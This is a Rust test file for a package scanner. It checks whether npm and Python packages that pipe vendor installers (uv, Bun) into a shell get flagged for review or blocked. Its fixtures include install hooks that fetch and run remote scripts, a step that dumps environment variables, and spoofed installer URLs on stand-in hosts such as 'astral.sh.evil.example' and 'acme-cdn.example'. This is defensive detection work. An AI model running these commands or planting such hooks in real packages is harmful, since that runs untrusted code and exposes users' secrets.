//! A vendor's own installer, piped into a shell: what somebody asks for, and what nobody has asked for.
#![allow(clippy::unwrap_used, reason = "a test may panic")]

use mcpscan::model::{ArtifactKind, ScanReport, Severity, Verdict};
use mcpscan::signatures::Signatures;

use crate::judged::{judge, pack};

const UV: &str = "curl -LsSf https://astral.sh/uv/install.sh | sh";
const README: (&str, &str) = ("README.md", "# Notes\n\n`notes setup` installs uv from astral.sh if you want it.\n");
const COMMAND: (&str, &str) = ("package.json", r#"{ "name": "notes", "version": "1.0.0", "bin": { "notes": "cli.js" } }"#);

fn judged(files: &[(&str, &str)]) -> ScanReport {
    let kind = if files[0].0 == "package.json" { ArtifactKind::NpmTarball } else { ArtifactKind::Sdist };
    let files = files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect();
    judge(pack(kind, &files), &Signatures::builtin())
}

/// The worst that the rule finds, and what it says.
fn worst(report: &ScanReport) -> (Severity, &str) {
    let found = report.findings.iter().filter(|finding| finding.rule == "shell-command");
    found.map(|finding| (finding.severity, finding.message.as_str())).max().unwrap_or((Severity::Info, ""))
}

/// A command-line program that runs a line once its user types `setup` and agrees.
fn asked(line: &str) -> ScanReport {
    let code = format!(
        "#!/usr/bin/env node\nconst {{ execSync }} = require('child_process');\nconst {{ program }} = require('commander');\n\
         program.command('setup').action(async () => {{\n  const {{ agrees }} = await require('inquirer').prompt([{{ type: 'confirm', name: 'agrees' }}]);\n  \
         if (agrees) execSync('{line}', {{ stdio: 'inherit' }});\n}});\nprogram.parse();\n"
    );
    judged(&[COMMAND, README, ("cli.js", &code)])
}

#[test]
fn a_vendors_installer_on_a_command_asks_for_a_look() {
    let report = asked(UV);
    let (severity, message) = worst(&report);
    assert_eq!((severity, report.verdict), (Severity::High, Verdict::Review), "{:#?}", report.findings);
    assert!(message.starts_with("`child_process.execSync` fetches and runs the install script of uv"), "{message}");

    let typed = format!(
        "const {{ execSync }} = require('child_process');\nif (process.argv[2] === 'setup') {{\n  execSync('{UV}', {{ stdio: 'inherit' }});\n}}\n"
    );
    let report = judged(&[COMMAND, README, ("cli.js", &typed)]);
    assert_eq!((worst(&report).0, report.verdict), (Severity::High, Verdict::Review), "{:#?}", report.findings);
}

#[test]
fn a_vendors_installer_without_a_shell_of_its_own_asks_for_a_look() {
    let code = format!("const {{ spawn }} = require('child_process');\nexports.setup = () => spawn('bash', ['-c', '{UV}']);\n");
    let manifest = ("package.json", r#"{ "name": "notes", "version": "1.0.0", "main": "index.js" }"#);
    assert_eq!(worst(&judged(&[manifest, README, ("index.js", &code)])).0, Severity::High);

    let manifest = ("pyproject.toml", "[project]\nname = \"notes\"\nversion = \"1.0.0\"\n");
    let code = format!("import subprocess\n\ndef setup():\n    subprocess.run(\"{UV}\", shell=True)\n");
    assert_eq!(worst(&judged(&[manifest, README, ("notes.py", &code)])).0, Severity::High);
}

#[test]
fn at_installation_a_vendors_installer_is_how_worms_bring_theirs() {
    let bun = "curl -fsSL https://bun.sh/install | bash";
    let manifest = |hook: &str| format!(r#"{{ "name": "notes", "version": "1.0.0", "scripts": {{ "preinstall": "{hook}" }} }}"#);
    let report = judged(&[("package.json", &manifest(bun)), ("index.js", "exports.a = 1;\n")]);
    assert_eq!((worst(&report).0, report.verdict), (Severity::Critical, Verdict::Block), "{:#?}", report.findings);

    let code = format!(
        "const {{ execSync }} = require('child_process');\nconst {{ join }} = require('path');\nexecSync('{bun}', {{ stdio: 'ignore' }});\n\
         execSync(join(process.env.HOME, '.bun/bin/bun') + ' run ' + join(__dirname, 'environment.js'));\n"
    );
    let hidden = ("environment.js", "console.log(process.env);\n");
    let report = judged(&[("package.json", &manifest("node setup.js")), ("setup.js", &code), hidden]);
    assert_eq!((worst(&report).0, report.verdict), (Severity::Critical, Verdict::Block), "{:#?}", report.findings);
}

#[test]
fn as_soon_as_it_is_loaded_a_vendors_installer_is_nobodys_wish() {
    let code = format!("const {{ execSync }} = require('child_process');\nexecSync('{UV}');\n");
    let report = judged(&[COMMAND, README, ("cli.js", &code)]);
    assert_eq!((worst(&report).0, report.verdict), (Severity::Critical, Verdict::Block), "{:#?}", report.findings);

    let code = format!("import os\n\nos.system(\"{UV}\")\n");
    let manifest = ("pyproject.toml", "[project]\nname = \"notes\"\nversion = \"1.0.0\"\n\n[project.scripts]\nnotes = \"notes:main\"\n");
    assert_eq!(worst(&judged(&[manifest, README, ("notes.py", &code)])).0, Severity::Critical);
}

#[test]
fn what_only_looks_like_a_vendors_installer_works_against_its_user() {
    let others = [
        "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh",
        "curl -LsSf https://astral.sh/other.sh | sh",
        "curl -LsSf https://raw.githubusercontent.com/other/install/HEAD/install.sh | bash",
        "curl -LsSf http://astral.sh/uv/install.sh | sh",
        "curl -LsSf https://astral.sh/uv/install.sh https://acme-cdn.example/a | sh",
        "curl -k -x acme-cdn.example:80 https://astral.sh/uv/install.sh | sh",
        "UV_INSTALLER_GITHUB_BASE_URL=https://acme-cdn.example curl -LsSf https://astral.sh/uv/install.sh | sh",
        "curl -LsSf https://astral.sh/uv/install.sh | sh; curl -s https://acme-cdn.example/a | sh",
        "curl -LsSf https://astral.sh/uv/install.sh | sed s/astral/acme/ | sh",
        "curl -LsSf https://astral.sh/uv/install.sh | bash - ./a.sh",
        "curl -LsSf https://astral.sh/uv/install.sh; sh",
        "PATH=./bin:$PATH curl -LsSf https://astral.sh/uv/install.sh | sh",
    ];
    for line in others {
        let report = asked(line);
        assert_eq!((worst(&report).0, report.verdict), (Severity::Critical, Verdict::Block), "{line}: {:?}", worst(&report));
    }
}

#[test]
fn tools_for_several_systems_are_one_habit() {
    let code = r#"const { exec } = require('child_process');
function uv() {
  if (process.platform === 'win32') exec('powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"');
  else exec(process.env.WGET ? 'wget -qO- https://astral.sh/uv/install.sh | sh' : 'curl -LsSf https://astral.sh/uv/install.sh | sh');
}
function bun() {
  exec(process.platform === 'win32' ? 'powershell -c "irm bun.sh/install.ps1|iex"' : 'curl -fsSL https://bun.sh/install | bash');
}
exports.setup = (tool) => (tool === 'uv' ? uv() : bun());
"#;
    let manifest = ("package.json", r#"{ "name": "notes", "version": "1.0.0", "main": "index.js" }"#);
    let report = judged(&[manifest, README, ("index.js", code)]);
    let found: Vec<_> = report.findings.iter().filter(|finding| finding.rule == "shell-command").collect();
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].message, "`child_process.exec` fetches and runs the install scripts of uv and Bun");
    let steps: Vec<(u32, &str)> = found[0].trace.iter().map(|step| (step.line, step.message.as_str())).collect();
    assert_eq!(steps, [(3, "installs uv"), (4, "installs uv"), (7, "installs Bun")]);
    assert_eq!(report.verdict, Verdict::Review);
}

#[test]
fn a_vendors_installer_hides_nothing_that_stands_beside_it() {
    let with = |code: &str| {
        let code = format!("const cp = require('child_process');\nexports.setup = (other) => {code};\n");
        let manifest = ("package.json", r#"{ "name": "notes", "version": "1.0.0", "main": "index.js" }"#);
        worst(&judged(&[manifest, README, ("index.js", &code)])).0
    };
    assert_eq!(with(&format!("cp.exec(other ? 'which uv' : '{UV}')")), Severity::High);
    assert_eq!(with(&format!("cp.exec(other ? '{UV}' : 'curl -s https://acme-cdn.example/a | sh')")), Severity::Critical);
    assert_eq!(with(&format!("[cp.exec('{UV}'), cp.exec('curl -s https://acme-cdn.example/a | sh')]")), Severity::Critical);
}
